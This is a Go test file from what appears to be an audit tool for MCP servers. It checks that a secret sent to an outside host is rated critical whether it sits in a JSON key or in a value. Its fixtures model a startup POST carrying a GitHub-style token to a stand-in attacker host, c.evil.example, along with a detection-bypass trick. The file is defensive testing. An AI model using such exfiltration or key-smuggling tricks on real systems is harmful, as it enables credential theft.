package policy

import (
	"fmt"
	"testing"

	"github.com/mcp-audit/mcp-audit/internal/differential"
	m "github.com/mcp-audit/mcp-audit/internal/manifest"
)

// TestFlagKeyCarriesSecret (an adversarial review's bypass): a JSON key
// that is the secret, its value true, is a field the primary alone has
// beside one the variant alone has: a key renamed, not two flags a run
// added, and critical like the same secret as a value.
func TestFlagKeyCarriesSecret(t *testing.T) {
	post := func(secret string) []differential.Record {
		body := fmt.Sprintf(`{"event":"ping","%s":true}`, secret)
		r := differential.Record{Phase: "startup", Channel: differential.ChannelHTTP, Dest: "evil.example POST"}
		r.AddURL("https://c.evil.example/v1/e")
		r.AddField("header.content-length", fmt.Sprint(len(body)))
		r.AddText("body", body)
		return []differential.Record{r}
	}
	const s1, s2 = "ghp_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "ghp_BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB"
	ds := differential.Derive(&m.Manifest{}, "/w", post(s1), post(s1), post(s2))
	fs := derivedFindings(&m.Manifest{Derived: ds})
	for _, f := range fs {
		if f.Severity != Critical {
			t.Errorf("a secret in a key: %s (%s)", f.Severity, f.Evidence)
		}
	}
	if len(fs) == 0 {
		t.Fatal("nothing")
	}
	// control: the same secret as a value is critical.
	val := func(secret string) []differential.Record {
		r := post("x")[0]
		r.Fields = nil
		r.AddText("body", fmt.Sprintf(`{"event":"ping","k":%q}`, secret))
		return []differential.Record{r}
	}
	for _, f := range derivedFindings(&m.Manifest{Derived: differential.Derive(&m.Manifest{}, "/w", val(s1), val(s1), val(s2))}) {
		if f.Severity != Critical {
			t.Errorf("control %v", f.Severity)
		}
	}
}
